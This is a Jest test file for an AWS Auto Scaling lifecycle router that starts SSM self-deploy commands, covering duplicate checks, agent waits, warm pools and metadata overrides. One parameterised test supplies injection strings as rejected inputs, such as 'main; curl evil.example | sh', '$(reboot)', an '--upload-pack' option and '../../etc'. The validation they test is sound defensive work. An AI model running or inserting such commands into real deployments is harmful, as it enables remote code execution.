import {
  CompleteLifecycleActionCommand,
  DescribeScalingActivitiesCommand,
} from '@aws-sdk/client-auto-scaling';
import { SendMessageBatchCommand } from '@aws-sdk/client-sqs';
import {
  DescribeInstanceInformationCommand,
  ListCommandsCommand,
  SendCommandCommand,
} from '@aws-sdk/client-ssm';
import type { ConfigInput, WarmPoolPolicy } from '../../functions/orchestrator/config';
import { route } from '../../functions/orchestrator/router';
import {
  activities,
  agentsOnline,
  autoScaling,
  awsError,
  fixture,
  harness,
  INSTANCE,
  launchActivity,
  NOW,
  sqs,
  ssm,
  TOKEN,
  WAIT_QUEUE_URL,
} from './support';

const NEW_COMMAND = 'aaaaaaaa-1111-2222-3333-444444444444';

const notRegistered = () =>
  awsError('InvalidInstanceId', 'Instances [[i-1234567890abcdef0]] not in a valid state');

/** The instance's agent is online and SendCommand takes the command. */
function agentOnline() {
  agentsOnline(INSTANCE);
  ssm.on(SendCommandCommand).resolves({ Command: { CommandId: NEW_COMMAND } });
}

/** What the reconciler sends for INSTANCE's wait: the lifecycle context without a token. */
const reconcilerCommand = (RequestedDateTime: Date) => ({
  CommandId: 'ffffffff-1111-2222-3333-444444444444',
  Comment: 'selfdeploy reconcile AutoScalingGroup',
  RequestedDateTime,
  Parameters: {
    autoScalingGroupName: ['web'],
    lifecycleHookName: ['selfdeploy-launch'],
    instanceId: [INSTANCE],
    lifecycleActionToken: [''],
  },
});

function agentNotRegistered() {
  agentsOnline();
}

describe('launch lifecycle action', () => {
  it('starts the self-deploy on the new instance with the lifecycle context as document parameters', async () => {
    const { deps, metrics } = harness();
    ssm.on(ListCommandsCommand).resolves({ Commands: [] });
    agentOnline();

    const result = await route(deps, fixture('launch'));

    expect(result).toMatchObject({
      kind: 'lifecycle',
      result: { outcome: 'started', commandId: NEW_COMMAND },
    });
    expect(ssm).toHaveReceivedCommandTimes(SendCommandCommand, 1);
    expect(ssm).toHaveReceivedCommandWith(SendCommandCommand, {
      DocumentName: 'SelfDeploy',
      InstanceIds: [INSTANCE],
      Parameters: {
        environment: ['production'],
        revision: [''],
        appUser: ['deploy'],
        deployPath: ['/var/www/app/deploy'],
        appPath: ['/var/www/app'],
        migrate: ['false'],
        healthCheckUrl: [''],
        executionTimeout: ['1800'],
        autoScalingGroupName: ['web'],
        lifecycleHookName: ['selfdeploy-launch'],
        instanceId: [INSTANCE],
        lifecycleActionToken: [TOKEN],
      },
      CloudWatchOutputConfig: {
        CloudWatchOutputEnabled: true,
        CloudWatchLogGroupName: '/selfdeploy/commands',
      },
      Comment: 'selfdeploy launch AutoScalingGroup',
    });
    expect(autoScaling.calls()).toHaveLength(0);
    expect(metrics.map((m) => m.name)).toEqual(['BootstrapStarted', 'AgentWait']);
  });

  it('uses the group settings of the group that launched', async () => {
    const { deps } = harness();
    ssm.on(ListCommandsCommand).resolves({ Commands: [] });
    agentOnline();
    const event = fixture('launch');
    Object.assign(event.detail, { AutoScalingGroupName: 'api', LifecycleHookName: 'api-launch' });

    await route(deps, event);

    expect(ssm).toHaveReceivedCommandWith(SendCommandCommand, {
      Parameters: expect.objectContaining({
        environment: ['staging'],
        appUser: ['deploy'],
        deployPath: ['/srv/api/deploy'],
        appPath: ['/srv/api'],
        autoScalingGroupName: ['api'],
      }),
    });
  });

  it('queues the wait of a launch whose agent has not registered, and sleeps for nothing', async () => {
    const { deps, sleeps } = harness();
    agentNotRegistered();

    const result = await route(deps, fixture('launch'));

    expect(result).toMatchObject({ result: { outcome: 'waiting', attempt: 1, delaySeconds: 2 } });
    expect(ssm).toHaveReceivedCommandWith(DescribeInstanceInformationCommand, {
      Filters: [{ Key: 'InstanceIds', Values: [INSTANCE] }],
    });
    // No SendCommand that could only fail, no duplicate check before the agent is there.
    expect(ssm).not.toHaveReceivedCommand(SendCommandCommand);
    expect(ssm).not.toHaveReceivedCommand(ListCommandsCommand);
    expect(sqs).toHaveReceivedCommandTimes(SendMessageBatchCommand, 1);
    expect(sleeps).toEqual([]);
  });

  it('leaves the instance to the reconciler at once when the agent wait is 0 and the agent is not there', async () => {
    const { deps, logs } = harness({
      config: {
        documentName: 'SelfDeploy',
        waitQueueUrl: WAIT_QUEUE_URL,
        agentWaitSeconds: 0,
        groups: { web: { lifecycleHookName: 'selfdeploy-launch' } },
      },
    });
    agentNotRegistered();

    const result = await route(deps, fixture('launch'));

    expect(result).toMatchObject({ result: { outcome: 'agent-not-ready', agentWaitSeconds: 0 } });
    expect(autoScaling).not.toHaveReceivedCommand(CompleteLifecycleActionCommand);
    expect(sqs).not.toHaveReceivedCommand(SendMessageBatchCommand);
    expect(logs.warn).toHaveBeenCalledWith(
      expect.stringContaining('leaving this instance to the reconciler'),
      expect.objectContaining({ instanceId: INSTANCE }),
    );
  });

  it('sends without the duplicate check when that read stays throttled, instead of failing the launch', async () => {
    const { deps, logs } = harness();
    ssm.on(ListCommandsCommand).rejects(awsError('ThrottlingException', 'Rate exceeded'));
    agentOnline();

    const result = await route(deps, fixture('launch'));

    expect(result).toMatchObject({ result: { outcome: 'started', commandId: NEW_COMMAND } });
    expect(logs.warn).toHaveBeenCalledWith('duplicate check throttled; sending without it', {
      instanceId: INSTANCE,
    });
  });

  it('fails the launch when the send itself stays throttled, so Lambda retries it', async () => {
    const { deps } = harness();
    ssm.on(ListCommandsCommand).resolves({ Commands: [] });
    agentOnline();
    ssm.on(SendCommandCommand).rejects(awsError('ThrottlingException', 'Rate exceeded'));

    await expect(route(deps, fixture('launch'))).rejects.toThrow('Rate exceeded');
  });

  it('lets errors other than a missing agent fail the invocation so Lambda retries it', async () => {
    const { deps } = harness();
    ssm.on(ListCommandsCommand).resolves({ Commands: [] });
    agentOnline();
    ssm.on(SendCommandCommand).rejects(awsError('InvalidDocument', 'Document SelfDeploy does not exist'));

    await expect(route(deps, fixture('launch'))).rejects.toThrow('Document SelfDeploy does not exist');
  });

  it('starts no second command for a duplicate delivery of the same lifecycle action', async () => {
    const { deps } = harness();
    agentOnline();
    ssm.on(ListCommandsCommand).resolves({
      Commands: [
        { CommandId: 'bbbbbbbb-1111-2222-3333-444444444444', Parameters: { lifecycleActionToken: [TOKEN] } },
      ],
    });

    const result = await route(deps, fixture('launch'));

    expect(result).toMatchObject({
      result: { outcome: 'duplicate', commandId: 'bbbbbbbb-1111-2222-3333-444444444444' },
    });
    expect(ssm).not.toHaveReceivedCommand(SendCommandCommand);
    expect(ssm).toHaveReceivedCommandWith(ListCommandsCommand, {
      InstanceId: INSTANCE,
      Filters: [{ key: 'DocumentName', value: 'SelfDeploy' }],
    });
  });

  it('deploys again for a new lifecycle action on an instance that was deployed before', async () => {
    const { deps } = harness();
    ssm.on(ListCommandsCommand).resolves({
      Commands: [
        {
          CommandId: 'bbbbbbbb-1111-2222-3333-444444444444',
          Parameters: { lifecycleActionToken: ['11111111-2222-3333-4444-555555555555'] },
        },
      ],
    });
    agentOnline();

    const result = await route(deps, fixture('launch'));

    expect(result).toMatchObject({ result: { outcome: 'started' } });
    // A command with another action's token is not this wait's: no activities need reading.
    expect(autoScaling).not.toHaveReceivedCommand(DescribeScalingActivitiesCommand);
  });

  it("starts no second command when the reconciler's deploy for this wait is already there", async () => {
    const { deps } = harness();
    ssm.on(ListCommandsCommand).resolves({ Commands: [reconcilerCommand(new Date(NOW - 60_000))] });
    activities(launchActivity(INSTANCE, new Date(NOW - 120_000)));
    agentOnline();

    const result = await route(deps, fixture('launch'));

    expect(result).toMatchObject({
      result: { outcome: 'duplicate', commandId: 'ffffffff-1111-2222-3333-444444444444' },
    });
    expect(ssm).not.toHaveReceivedCommand(SendCommandCommand);
    expect(autoScaling).toHaveReceivedCommandWith(DescribeScalingActivitiesCommand, {
      AutoScalingGroupName: 'web',
    });
  });

  it("deploys when the reconciler's command is from an earlier wait of the instance", async () => {
    const { deps } = harness();
    ssm.on(ListCommandsCommand).resolves({ Commands: [reconcilerCommand(new Date(NOW - 3600_000))] });
    activities(launchActivity(INSTANCE, new Date(NOW - 120_000), 'from warm pool'));
    agentOnline();

    const result = await route(deps, fixture('launch'));

    expect(result).toMatchObject({ result: { outcome: 'started' } });
  });

  it('stops waiting for an agent that is online while SendCommand refuses the instance, naming the tag condition', async () => {
    const { deps, logs, sleeps } = harness();
    ssm.on(ListCommandsCommand).resolves({ Commands: [] });
    agentOnline();
    ssm.on(SendCommandCommand).rejects(notRegistered());

    const result = await route(deps, fixture('launch'));

    expect(result).toMatchObject({
      result: {
        outcome: 'send-refused',
        reason: expect.stringContaining('ssm:resourceTag/aws:autoscaling:groupName'),
      },
    });
    expect(ssm).toHaveReceivedCommandTimes(SendCommandCommand, 1);
    expect(sleeps).toEqual([]);
    expect(logs.error).toHaveBeenCalledWith(
      expect.stringMatching(
        /^not waiting for the agent: SendCommand answers InvalidInstanceId although the SSM agent is Online/,
      ),
      { instanceId: INSTANCE, group: 'web', condition: 'ssm:resourceTag/aws:autoscaling:groupName' },
    );
  });
});

describe('group settings in the document', () => {
  it("passes the group's health check URL and never asks a launch to migrate", async () => {
    const { deps } = harness({
      config: {
        documentName: 'SelfDeploy',
        waitQueueUrl: WAIT_QUEUE_URL,
        groups: {
          web: { lifecycleHookName: 'selfdeploy-launch', healthCheckUrl: 'http://localhost:3000/up' },
        },
      },
    });
    ssm.on(ListCommandsCommand).resolves({ Commands: [] });
    agentOnline();

    await route(deps, fixture('launch'));

    expect(ssm).toHaveReceivedCommandWith(SendCommandCommand, {
      Parameters: expect.objectContaining({
        healthCheckUrl: ['http://localhost:3000/up'],
        migrate: ['false'],
        instanceId: [INSTANCE],
      }),
    });
  });
});

describe('launch metadata', () => {
  it('deploys the revision a JSON override names', async () => {
    const { deps } = harness();
    ssm.on(ListCommandsCommand).resolves({ Commands: [] });
    agentOnline();

    await route(deps, fixture('launch-with-revision-override'));

    expect(ssm).toHaveReceivedCommandWith(SendCommandCommand, {
      Parameters: expect.objectContaining({ revision: ['v2.4.1'], environment: ['production'] }),
    });
  });

  it('treats free-text metadata as a note and deploys with the group settings', async () => {
    const { deps, logs } = harness();
    ssm.on(ListCommandsCommand).resolves({ Commands: [] });
    agentOnline();
    const event = fixture('launch');
    event.detail.NotificationMetadata = 'scale-out for the Black Friday sale; ping #ops';

    const result = await route(deps, event);

    expect(result).toMatchObject({ result: { outcome: 'started' } });
    expect(ssm).toHaveReceivedCommandWith(SendCommandCommand, {
      Parameters: expect.objectContaining({ revision: [''], environment: ['production'] }),
    });
    expect(logs.info).toHaveBeenCalledWith(
      'launch note',
      expect.objectContaining({ note: expect.stringContaining('Black Friday') }),
    );
  });

  it.each([
    ['a shell command in the revision', { revision: 'main; curl evil.example | sh' }],
    ['an option-like revision', { revision: '--upload-pack=touch /tmp/pwned' }],
    ['command substitution in the environment', { environment: '$(reboot)' }],
    ['a path in the environment', { environment: '../../etc' }],
    ['a non-string revision', { revision: 42 }],
    ['an unknown override', { appUser: 'root' }],
  ])('abandons the instance and sends no command for %s', async (_case, overrides) => {
    const { deps, metrics, logs } = harness();
    autoScaling.on(CompleteLifecycleActionCommand).resolves({});
    const event = fixture('launch');
    event.detail.NotificationMetadata = JSON.stringify(overrides);

    const result = await route(deps, event);

    expect(result).toMatchObject({ result: { outcome: 'abandoned' } });
    expect(ssm.calls()).toHaveLength(0);
    expect(autoScaling).toHaveReceivedCommandWith(CompleteLifecycleActionCommand, {
      AutoScalingGroupName: 'web',
      LifecycleHookName: 'selfdeploy-launch',
      LifecycleActionToken: TOKEN,
      LifecycleActionResult: 'ABANDON',
    });
    expect(metrics).toContainEqual({ name: 'BootstrapFailed', group: 'web', value: 1, unit: 'Count' });
    expect(logs.error).toHaveBeenCalledWith(
      expect.stringContaining('NotificationMetadata overrides rejected'),
      expect.anything(),
    );
  });
});

describe('launches selfdeploy does not deploy', () => {
  it.each([
    ['a terminate transition', 'terminate'],
    ['the Auto Scaling test notification', 'test-notification'],
  ])('ignores %s without calling AWS', async (_case, name) => {
    const { deps } = harness();

    const result = await route(deps, fixture(name));

    expect(JSON.stringify(result)).toMatch(/ignored/);
    expect(ssm.calls().length + autoScaling.calls().length).toBe(0);
  });

  it('ignores a group it does not manage', async () => {
    const { deps, logs } = harness();
    const event = fixture('launch');
    event.detail.AutoScalingGroupName = 'batch-workers';

    const result = await route(deps, event);

    expect(result).toMatchObject({
      result: { outcome: 'ignored', reason: 'group batch-workers is not managed by selfdeploy' },
    });
    expect(ssm.calls().length + autoScaling.calls().length).toBe(0);
    expect(logs.info).toHaveBeenCalledTimes(1);
  });

  it.each(['constructor', '__proto__', 'toString'])(
    'ignores group %s, which is not managed, without calling AWS',
    async (name) => {
      const { deps } = harness();
      const event = fixture('launch');
      event.detail.AutoScalingGroupName = name;

      const result = await route(deps, event);

      expect(result).toMatchObject({
        result: { outcome: 'ignored', reason: `group ${name} is not managed by selfdeploy` },
      });
      expect(ssm.calls().length + autoScaling.calls().length).toBe(0);
    },
  );

  it("ignores another hook's action on a managed group", async () => {
    const { deps } = harness();
    const event = fixture('launch');
    event.detail.LifecycleHookName = 'some-other-hook';

    const result = await route(deps, event);

    expect(result).toMatchObject({ result: { outcome: 'ignored' } });
    expect(ssm.calls().length + autoScaling.calls().length).toBe(0);
  });
});

describe('warm pools', () => {
  const withPolicy = (warmPool: WarmPoolPolicy): ConfigInput => ({
    documentName: 'SelfDeploy',
    waitQueueUrl: WAIT_QUEUE_URL,
    groups: { web: { lifecycleHookName: 'selfdeploy-launch', warmPool } },
  });

  it.each(['launch-into-warm-pool', 'launch-from-warm-pool'])(
    'deploys on both transitions by default (%s)',
    async (name) => {
      const { deps } = harness();
      ssm.on(ListCommandsCommand).resolves({ Commands: [] });
      agentOnline();

      await route(deps, fixture(name));

      expect(ssm).toHaveReceivedCommandTimes(SendCommandCommand, 1);
      expect(autoScaling).not.toHaveReceivedCommand(CompleteLifecycleActionCommand);
    },
  );

  it('records the warm pool as the place the deploy was for', async () => {
    const { deps } = harness();
    ssm.on(ListCommandsCommand).resolves({ Commands: [] });
    agentOnline();

    await route(deps, fixture('launch-into-warm-pool'));

    expect(ssm).toHaveReceivedCommandWith(SendCommandCommand, { Comment: 'selfdeploy launch WarmPool' });
  });

  it('deploy-on-service lets an instance into the warm pool at once and deploys when it enters service', async () => {
    const { deps } = harness({ config: withPolicy('deploy-on-service') });
    autoScaling.on(CompleteLifecycleActionCommand).resolves({});
    ssm.on(ListCommandsCommand).resolves({ Commands: [] });
    agentOnline();

    const intoPool = await route(deps, fixture('launch-into-warm-pool'));
    expect(intoPool).toMatchObject({ result: { outcome: 'continued-without-deploy' } });
    expect(autoScaling).toHaveReceivedCommandWith(CompleteLifecycleActionCommand, {
      LifecycleActionResult: 'CONTINUE',
    });
    expect(ssm).not.toHaveReceivedCommand(SendCommandCommand);

    const intoService = await route(deps, fixture('launch-from-warm-pool'));
    expect(intoService).toMatchObject({ result: { outcome: 'started' } });
  });

  it('deploy-on-warm-pool deploys into the pool and lets the deployed instance into service at once', async () => {
    const { deps } = harness({ config: withPolicy('deploy-on-warm-pool') });
    autoScaling.on(CompleteLifecycleActionCommand).resolves({});
    ssm.on(ListCommandsCommand).resolves({ Commands: [] });
    agentOnline();

    const intoPool = await route(deps, fixture('launch-into-warm-pool'));
    expect(intoPool).toMatchObject({ result: { outcome: 'started' } });

    const intoService = await route(deps, fixture('launch-from-warm-pool'));
    expect(intoService).toMatchObject({ result: { outcome: 'continued-without-deploy' } });
    expect(ssm).toHaveReceivedCommandTimes(SendCommandCommand, 1);
  });
});
